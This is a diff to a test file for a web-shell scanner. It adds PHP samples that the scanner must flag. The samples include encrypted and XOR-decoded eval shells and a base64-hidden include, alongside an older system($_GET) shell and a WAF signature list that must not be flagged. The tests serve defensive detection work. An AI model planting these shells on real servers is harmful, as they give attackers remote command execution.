@@ -78,5 +78,8 @@ test('a set-uid program in the copy of a system', () => {
 test('a list of what a guard of pages refuses is no web shell', () => {
 	expect(ask(webShells, { '/var/www/waf.php': "<?php\n$rules = array('eval(base64_decode(', 'system($_GET', 'assert($_POST', 'FilesMan');\n" })).toEqual([]);
 	expect(ask(webShells, { '/var/www/x.php': "<?php\n$a = array('x', 'y'); system($_GET['c']);\n" })).toEqual(['high /var/www/x.php']);
+	expect(ask(webShells, { '/var/www/b.php': "<?php $post=file_get_contents('php://input');$post=openssl_decrypt($post,'AES128',$key);class C{public function __invoke($p){eval($p.'');}}@call_user_func(new C(),$post);\n" })).toEqual(['high /var/www/b.php']);
+	expect(ask(webShells, { '/var/www/g.php': "<?php function encode($D,$K){for($i=0;$i<strlen($D);$i++){$D[$i]=$D[$i]^$K[$i];}return $D;}if(isset($_POST['p'])){$payload=encode($_POST['p'],$key);eval($payload);}\n" })).toEqual(['high /var/www/g.php']);
+	expect(ask(webShells, { '/var/www/h.php': "<?php @include_once base64_decode('L3RtcC8ueC5waHA=');\n" })).toEqual(['high /var/www/h.php']);
 	expect(ask(webShells, { '/var/www/y.php': "<?php $f = create_function('', 'eval($_POST[1]);'); $f();\n" })).toEqual(['high /var/www/y.php']);
 });
